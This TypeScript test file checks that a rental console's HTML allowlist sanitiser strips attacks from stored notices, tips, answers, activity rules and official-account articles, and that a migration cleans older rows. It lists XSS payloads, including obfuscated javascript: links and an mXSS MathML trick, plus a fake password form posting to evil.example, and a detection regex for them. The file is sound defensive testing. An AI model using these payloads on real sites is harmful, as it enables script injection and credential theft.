// Rich text is kept to one allowlist before it is stored (runtime/rich-text/allowlist.ts): a notice carrying the
// OWASP cheat sheet's kinds of attack is stored without any of them, while headings, lists, http(s) and mail links,
// tables and pictures uploaded to the console survive; tips, answers, activity rules and official-account articles
// (the article as uploaded to the platform too) are cleaned the same way; a required text left with nothing is refused
// by name; and migration 0027_b cleans rows written before.
import crypto from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { nextId } from '../../../server/platform/db/ids.js';
import { migrate } from '../../../server/platform/db/migrate.js';
import { type Api, openApi, pageOf, type Row, rowOf } from '../engine/api.js';
import { call } from '../harness.js';

let api: Api;
/** A picture uploaded through put-file, by the link it answered. */
let picture: string;

const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), crypto.randomBytes(64)]);

async function uploadPicture(): Promise<string> {
  const boundary = `----ride${crypto.randomBytes(8).toString('hex')}`;
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="site.png"\r\nContent-Type: image/png\r\n\r\n`;
  const response = await call(api.server, 'POST', '/api/blade-resource/oss/endpoint/put-file', {
    token: api.adminToken,
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    body: Buffer.concat([Buffer.from(head), PNG, Buffer.from(`\r\n--${boundary}--\r\n`)]),
  });
  return String((response.json() as { data: { link: string } }).data.link);
}

const send = async (method: 'POST' | 'PUT', url: string, body: unknown, headers: Record<string, string> = {}) => {
  const response = await call(api.server, method, url, { token: api.adminToken, body, headers });
  return { status: response.statusCode, ...(response.json() as { msg: string; data: unknown }) };
};

/** Saves a notice (a new one, or the one `id` names) and answers its content as the detail call shows it. */
async function savedNotice(content: string, id?: string): Promise<{ id: string; content: string }> {
  const title = `通知 ${crypto.randomBytes(4).toString('hex')}`;
  const body = { ...(id ? { id } : {}), title, category: 1, releaseTime: '2026-03-01 09:00:00', content };
  expect(await send('POST', '/api/blade-desk/notice/submit', body)).toMatchObject({ status: 200, success: true });
  const saved = id ?? String(pageOf(await api.get('/api/blade-desk/notice/list', { title })).records[0].id);
  return { id: saved, content: String(rowOf(await api.get('/api/blade-desk/notice/detail', { id: saved })).content) };
}

/** Anything of an attack that could run, load from another site or pose as the console once drawn. */
const LIVE =
  /\bon[a-z]+\s*=|javascript|vbscript|data:|alert|evil\.example|tracker\.example|style=|<(script|iframe|form|input|button|style|svg|math|object|embed|meta|base|details|link)\b/i;

const HOSTILE: Array<[string, string]> = [
  ['an image whose error runs code', '<img src=x onerror=alert(1)>'],
  ['svg that runs code on load', '<svg onload=alert(1)><circle r="1"></circle></svg>'],
  ['a script', '<script>alert(1)</script>'],
  ['a javascript: link', '<a href="javascript:alert(1)">点此</a>'],
  ['a javascript: link split by a tab entity', '<a href="java&#x09;script:alert(1)">点此</a>'],
  ['a javascript: link with its first letter an entity', '<a href="&#106;avascript:alert(1)">点此</a>'],
  ['a javascript: link in mixed case behind spaces', '<a href="  JaVaScRiPt:alert(1)">点此</a>'],
  ['a javascript: link split by a newline', '<a href="java\nscript:alert(1)">点此</a>'],
  ['a vbscript: link', '<a href="vbscript:msgbox(1)">点此</a>'],
  ['a data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点此</a>'],
  ['a frame', '<iframe src="https://evil.example/"></iframe>'],
  [
    'a fake sign-in form',
    '<form action="https://evil.example/steal"><input name="password"><button>登录</button></form>',
  ],
  ['a style sheet', '<style>@import url(https://evil.example/seen.css);</style>'],
  ['a style that loads from another site', '<p style="background:url(https://evil.example/seen)">背景</p>'],
  ['an event handler on a kept element', '<p onclick="alert(1)">段落</p><details open ontoggle=alert(1)>x</details>'],
  ['a tracking image from another site', '<img src="https://tracker.example/pixel.gif?u=admin">'],
  [
    'an image pretending to be ours from another host',
    `<img src="//tracker.example/api/blade-resource/oss/file/20260101-${'a'.repeat(32)}.png">`,
  ],
  [
    'objects, embeds, meta refresh and base',
    '<object data="https://evil.example/x"></object><embed src="https://evil.example/x"><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  ],
  [
    'mXSS through MathML and a comment in a style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
];

beforeAll(async () => {
  api = await openApi();
  picture = await uploadPicture();
});
afterAll(async () => api?.close());

describe('a notice saved with an attack', () => {
  it.each(HOSTILE)('is stored without %s, with the text around it', async (_, attack) => {
    const { content } = await savedNotice(`<p>通知正文</p>${attack}`);
    expect(content).toMatch(/^<p>通知正文<\/p>/);
    expect(content).not.toMatch(LIVE);
  });

  it('of 100 KB of unclosed or nested tags is answered in seconds, not held for minutes', async () => {
    for (const flood of ['<a>'.repeat(33000), '<div>'.repeat(19000), '<p><b><i><u><s>x'.repeat(6000)]) {
      const started = Date.now();
      const { content } = await savedNotice(`<p>通知正文</p>${flood}`);
      expect(Date.now() - started).toBeLessThan(10_000);
      expect(content).toMatch(/^<p>通知正文<\/p>/);
    }
  });

  it('is cleaned when an existing notice is changed to carry it', async () => {
    const { id } = await savedNotice('<p>原来的通知</p>');
    const { content } = await savedNotice('<p>改过的通知</p><img src=x onerror=alert(1)>', id);
    expect(content).toBe('<p>改过的通知</p>');
  });
});

describe('what the editors use', () => {
  const kept = [
    '<h1>租车须知</h1><h3>押金</h3>',
    '<p>正文<b>粗</b><strong>重</strong><i>斜</i><em>强调</em><u>下划线</u><s>删除</s><br>第二行</p>',
    '<ol><li>扫码</li><li>开锁</li></ol><ul><li>归还</li></ul><blockquote>押金原路退回</blockquote>',
    '<p><a href="https://ride.example/rules" title="规则">规则</a> <a href="http://ride.example/">旧站</a> ',
    '<a href="mailto:service@ride.example">客服</a></p>',
    '<table><thead><tr><th>时长</th><th>价格</th></tr></thead><tbody><tr><td colspan="2">首小时 5 元</td></tr></tbody></table>',
  ].join('');

  it('survives as written, links told not to pass on the console', async () => {
    const { content } = await savedNotice(kept);
    const linksToldNot = kept.replace(/<a ([^>]*)>/g, '<a $1 rel="noopener noreferrer">');
    expect(content).toBe(linksToldNot.replace('<br>', '<br />'));
  });

  it('keeps a picture uploaded to the console, which still loads from its link', async () => {
    expect(picture).toMatch(/^\/api\/blade-resource\/oss\/file\/\d{8}-[0-9a-f]{32}\.png$/);
    const { content } = await savedNotice(`<p>站点照片</p><p><img src="${picture}" alt="站点"></p>`);
    expect(content).toBe(`<p>站点照片</p><p><img src="${picture}" alt="站点" /></p>`);
    expect((await api.server.app.inject({ method: 'GET', url: picture })).statusCode).toBe(200);
  });

  it('drops the same picture named by a full address: only the link put-file answers counts as ours', async () => {
    const { content } = await savedNotice(`<p>照片</p><img src="https://console.example${picture}">`);
    expect(content).toBe('<p>照片</p>');
  });
});

describe('every rich text', () => {
  const attack = '<p onclick="alert(1)">说明</p><img src=x onerror=alert(1)><a href="javascript:alert(1)">链接</a>';
  const cleaned = '<p>说明</p><a>链接</a>';

  it('is cleaned in tips, answers to common questions and activity rules', async () => {
    const saves: Array<[string, string, Row, string]> = [
      ['/api/blade-system/tip', 'content', { title: '归还说明', tipKind: 2 }, 'title'],
      ['/api/blade-system/normal', 'answer', { question: '押金多久退回?' }, 'question'],
      [
        '/api/blade-system/activity',
        'rules',
        { activityName: '限时折扣', activityKind: 3, startTime: '2026-03-01', endTime: '2026-03-31' },
        'activityName',
      ],
    ];
    for (const [prefix, field, row, named] of saves) {
      expect(await send('POST', `${prefix}/submit`, { ...row, [field]: attack }), prefix).toMatchObject({
        status: 200,
      });
      const listed = pageOf(await api.get(`${prefix}/list`, { [named]: String(row[named]) })).records;
      expect(
        listed.map((record) => record[field]),
        prefix,
      ).toEqual([cleaned]);
    }
  });

  it('is cleaned in an official-account article before it goes to the platform', async () => {
    const account = { accountName: '乐行租赁', accountType: 2, appId: 'wx0123456789abcdef' };
    const added = await send('POST', '/api/mp/wxaccount/submit', { ...account, appSecret: 'f'.repeat(32) });
    expect(added).toMatchObject({ status: 200 });
    const accountId = String(pageOf(await api.get('/api/mp/wxaccount/page')).records[0].id);
    const article = await send('POST', '/api/mp/wxmaterial/materialNews', {
      accountId,
      title: '押金说明',
      content: attack,
    });
    expect(article).toMatchObject({ status: 200, data: { content: cleaned } });
    const uploaded = await api.server.ctx.db
      .selectFrom('mp_sim_call')
      .select('payload')
      .where('kind', '=', 'draft')
      .executeTakeFirstOrThrow();
    expect(JSON.parse(String(uploaded.payload))).toMatchObject({ title: '押金说明', content: cleaned });
  });

  it('refuses a required text with nothing allowed left, naming the field, and stores nothing', async () => {
    const tip = { title: '只有脚本', tipKind: 1, content: '<script>alert(1)</script><p onclick="x"> </p>' };
    expect(await send('POST', '/api/blade-system/tip/submit', tip)).toMatchObject({ status: 400, msg: '内容不能为空' });
    const english = await send('POST', '/api/blade-system/tip/submit', tip, { 'accept-language': 'en' });
    expect(english).toMatchObject({ status: 400, msg: 'Content is required' });
    expect(pageOf(await api.get('/api/blade-system/tip/list', { title: '只有脚本' })).total).toBe(0);
  });
});

describe('migration 0027_b', () => {
  it('cleans rich text stored before it and leaves clean text as it was', async () => {
    const db = api.server.ctx.db;
    const hostile = `<h2>旧通知</h2><img src=x onerror=alert(1)><a href="java&#x09;script:alert(1)">领取</a><img src="https://tracker.example/p.gif"><iframe src="https://evil.example/"></iframe>`;
    const clean = '<h2>旧通知</h2><a>领取</a>';
    const plain = `<p>押金原路退回</p><p><img src="${picture}" alt="站点" /></p>`;
    const ids = { notice: nextId(), plainNotice: nextId(), tip: nextId(), normal: nextId(), activity: nextId() };
    const material = nextId();
    await db
      .insertInto('blade_notice')
      .values({ id: ids.notice, title: '旧', category: 1, content: hostile })
      .execute();
    await db
      .insertInto('blade_notice')
      .values({ id: ids.plainNotice, title: '旧', category: 1, content: plain })
      .execute();
    await db.insertInto('biz_tip').values({ id: ids.tip, title: '旧', tipKind: 1, content: hostile }).execute();
    await db.insertInto('biz_normal').values({ id: ids.normal, question: '旧', answer: hostile }).execute();
    await db
      .insertInto('biz_activity')
      .values({
        id: ids.activity,
        activityName: '旧',
        activityKind: 9,
        startTime: '2026-01-01 00:00:00',
        endTime: '2026-01-31 00:00:00',
        rules: hostile,
      })
      .execute();
    await db.insertInto('mp_material').values({ id: material, accountId: 1, title: '旧', content: hostile }).execute();
    const stored = async () => [
      ...(await db
        .selectFrom('blade_notice')
        .select(['id', 'content as html'])
        .where('id', 'in', [ids.notice, ids.plainNotice])
        .orderBy('id')
        .execute()),
      await db
        .selectFrom('biz_tip')
        .select(['id', 'content as html'])
        .where('id', '=', ids.tip)
        .executeTakeFirstOrThrow(),
      await db
        .selectFrom('biz_normal')
        .select(['id', 'answer as html'])
        .where('id', '=', ids.normal)
        .executeTakeFirstOrThrow(),
      await db
        .selectFrom('biz_activity')
        .select(['id', 'rules as html'])
        .where('id', '=', ids.activity)
        .executeTakeFirstOrThrow(),
      await db
        .selectFrom('mp_material')
        .select(['id', 'content as html'])
        .where('id', '=', material)
        .executeTakeFirstOrThrow(),
    ];
    const htmlOf = async () => (await stored()).map((row) => row.html);
    expect(await htmlOf()).toEqual([hostile, plain, hostile, hostile, hostile, hostile]);

    await db
      .deleteFrom('blade_migration' as never)
      .where('name' as never, '=', '0027_b_sanitise_rich_text' as never)
      .execute();
    await migrate(db);

    expect(await htmlOf()).toEqual([clean, plain, clean, clean, clean, clean]);
  });
});
